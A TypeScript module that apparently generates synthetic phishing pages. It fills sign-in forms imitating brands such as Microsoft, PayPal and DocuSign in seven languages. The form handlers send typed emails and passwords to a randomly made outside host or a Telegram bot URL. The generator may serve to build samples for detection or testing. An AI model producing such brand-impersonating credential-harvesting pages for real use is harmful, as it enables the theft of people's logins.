import type { Chance } from '../make/chance.ts'
import { unnamedDomain } from '../make/hosts/hosting.ts'
import { frontOf } from '../make/pages/fronts.ts'
import { escaped } from '../make/pages/layout.ts'

/** A brand whose sign-in is copied most, by its name, its label and its domain. */
export type Mask = readonly [string, string, string]

export const MASKS: readonly Mask[] = [
  ['Microsoft', 'microsoft', 'microsoft.com'],
  ['Microsoft 365', 'office365', 'office.com'],
  ['Outlook', 'outlook', 'outlook.com'],
  ['DocuSign', 'docusign', 'docusign.com'],
  ['Adobe', 'adobe', 'adobe.com'],
  ['Google', 'google', 'google.com'],
  ['Dropbox', 'dropbox', 'dropbox.com'],
  ['DHL', 'dhl', 'dhl.com'],
  ['Yahoo', 'yahoo', 'yahoo.com'],
  ['PayPal', 'paypal', 'paypal.com'],
  ['Facebook', 'facebook', 'facebook.com'],
  ['Orange', 'orange', 'orange.fr'],
  ['Amazon', 'amazon', 'amazon.co.jp'],
  ['Apple', 'apple', 'apple.com'],
  ['WeTransfer', 'wetransfer', 'wetransfer.com'],
  ['LinkedIn', 'linkedin', 'linkedin.com'],
]

type Tongue = 'en' | 'de' | 'fr' | 'es' | 'it' | 'pt' | 'ja'
type Talk = readonly [
  signIn: string,
  mail: string,
  password: string,
  next: string,
  hint: string,
  wait: string,
]

export const TALKS: Readonly<Record<Tongue, Talk>> = {
  en: [
    'Sign in',
    'Email, phone or Skype',
    'Password',
    'Next',
    'Sign in to read the document that was shared with you.',
    'Please wait…',
  ],
  de: [
    'Anmelden',
    'E-Mail-Adresse',
    'Kennwort',
    'Weiter',
    'Melden Sie sich an, um das Dokument zu öffnen.',
    'Bitte warten…',
  ],
  fr: [
    'Se connecter',
    'Adresse e-mail',
    'Mot de passe',
    'Suivant',
    'Connectez-vous pour consulter votre message.',
    'Veuillez patienter…',
  ],
  es: [
    'Iniciar sesión',
    'Correo electrónico',
    'Contraseña',
    'Siguiente',
    'Inicie sesión para ver el archivo.',
    'Espere, por favor…',
  ],
  it: [
    'Accedi',
    'Indirizzo e-mail',
    'Password',
    'Avanti',
    'Accedi per vedere il documento.',
    'Attendere prego…',
  ],
  pt: ['Entrar', 'E-mail', 'Senha', 'Avançar', 'Entre para ver o arquivo.', 'Aguarde…'],
  ja: [
    'サインイン',
    'メールアドレス',
    'パスワード',
    '次へ',
    'セッションの有効期限が切れました。再度サインインしてください。',
    'しばらくお待ちください',
  ],
}
const TONGUES: readonly Tongue[] = ['en', 'en', 'en', 'de', 'fr', 'es', 'it', 'pt', 'ja']

export const tongueOf = (chance: Chance): Tongue => chance.of(TONGUES)

/** The sign-in that the script shows: a whole document, or a part of one. */
export function fakeSignIn([name, , domain]: Mask, tongue: Tongue, isWhole: boolean, chance: Chance): string {
  const [signIn, mail, password, next, hint] = TALKS[tongue]
  const far = unnamedDomain(chance).host
  const victim = `${chance.name(3)}@${chance.name(3)}.com`
  const id = chance.of([
    `<input type="email" name="${chance.of(['login', 'loginfmt', 'em', 'usr'])}" placeholder="${mail}">`,
    `<input type="hidden" name="em" value="${victim}"><div>${victim}</div>`,
  ])
  const open = chance.of([
    `method="post" action="https://${far}/${chance.letters(5)}.php"`,
    `method="post" action="${chance.of(['post', 'go', 'next'])}.php"`,
    `onsubmit="fetch('https://${far}/${chance.hex(6)}',{method:'POST',mode:'no-cors',body:new FormData(this)});return false"`,
    `method="post" action="https://api.telegram.org/bot${chance.digits(10)}:AA${chance.letters(33)}/sendMessage?chat_id=${chance.digits(9)}"`,
  ])
  const logo = chance.of([
    `<img src="https://www.${domain}/logo.svg" alt="${name}">`,
    `<img src="data:image/png;base64,iVBORw0KGgo${chance.letters(40)}" alt="${name}">`,
    `<span class="wordmark">${name}</span>`,
  ])
  const main = `<p>${escaped(hint)}</p><form ${open}>${id}<input type="password" name="${chance.of(['passwd', 'pw', 'pass'])}" placeholder="${password}"><button type="submit">${next}</button></form>`
  if (!isWhole)
    return `<div class="login-box">${logo}<h1>${signIn}</h1>${main}<small>© 2026 ${name}</small></div>`
  const title = chance.of([`${signIn} - ${name}`, `${name} – ${signIn}`, `${name}`])
  return frontOf({ tongue, title, heading: signIn, logo, main, foot: `© 2026 ${name}` }, chance)
}
